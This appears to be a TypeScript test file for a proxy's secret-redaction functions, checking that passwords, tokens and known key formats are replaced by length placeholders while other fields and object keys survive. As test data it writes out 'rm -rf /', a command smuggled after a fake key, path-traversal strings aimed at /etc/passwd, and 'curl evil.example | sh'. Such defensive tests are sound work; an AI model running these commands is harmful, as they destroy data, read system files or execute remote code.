import fc from "fast-check";
import { expect, test } from "vitest";
import { hideInText, hideSecrets } from "../../../../proxy/exchange/hide-secrets.ts";

test.each(["password", "db_password", "apiKey", "api-key", "access_token", "sessionId", "Authorization", "set-cookie", "clientSecret"])("the text of %s is hidden, and how long it is is said", (name) => {
  expect(hideSecrets("hunter2", name)).toBe("[hidden: 7 characters]");
  expect(hideSecrets({ [name]: { inner: ["hunter2"], port: 1 } }, "")).toEqual({ [name]: { inner: ["[hidden: 7 characters]"], port: 1 } });
});

test.each(["passengers", "compass", "bypass", "session_command", "max_tokens", "token_count", "secretary", "cookiecutter", "key"])("what people need is shown: %s", (name) => {
  expect(hideSecrets("rm -rf /", name)).toBe("rm -rf /");
});

test("keys of a known shape are hidden wherever they stand", () => {
  expect(hideInText("use sk-live1234567890 now")).toBe("use [hidden: 17 characters] now");
  expect(hideInText("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc")).toBe("[hidden: 40 characters]");
});

test("no command and no path hides behind such a beginning", () => {
  for (const text of ["ls /tmp/sk-x/../../../etc;rm", "eyJ/../../etc/passwd", "sk-aaaaaaaaaaaaaaaa/../../etc"]) expect(hideInText(text)).toContain(text.slice(-4));
  expect(hideInText("sk-aaaaaaaaaaaaaaaa; rm -rf /")).toBe("[hidden: 19 characters]; rm -rf /");
});

test("two keys that are hidden stay two, and so does a third that says what stands for them", () => {
  const jobs = { "npm_aaaaaaaaaaaa": { run: "curl evil.example | sh" }, "npm_bbbbbbbbbbbb": { run: "ls" }, "[hidden: 16 characters]": 1, "[hidden: 16 characters] (2)": 2 };
  expect(Object.entries(hideSecrets({ jobs }, "") as { jobs: object }).flatMap(([, shown]) => Object.entries(shown))).toEqual([
    ["[hidden: 16 characters] (3)", { run: "curl evil.example | sh" }], ["[hidden: 16 characters] (4)", { run: "ls" }], ["[hidden: 16 characters]", 1], ["[hidden: 16 characters] (2)", 2],
  ]);
});

const byNumber = (a: number, b: number) => a - b;

test("no member of an object is lost, whatever its name", () => {
  const secret = fc.stringMatching(/^(?:sk-|npm_)[a-z]{12,13}$/);
  const name = fc.oneof(secret, fc.string(), fc.constantFrom("__proto__", "[hidden: 15 characters]", "[hidden: 15 characters] (2)"));
  fc.assert(fc.property(fc.uniqueArray(name, { maxLength: 12 }), (names) => {
    const value = Object.fromEntries(names.map((each, at) => [each, at]));
    expect(Object.values(hideSecrets(value, "") as Record<string, number>).toSorted(byNumber)).toEqual(Object.values(value).toSorted(byNumber));
  }));
});
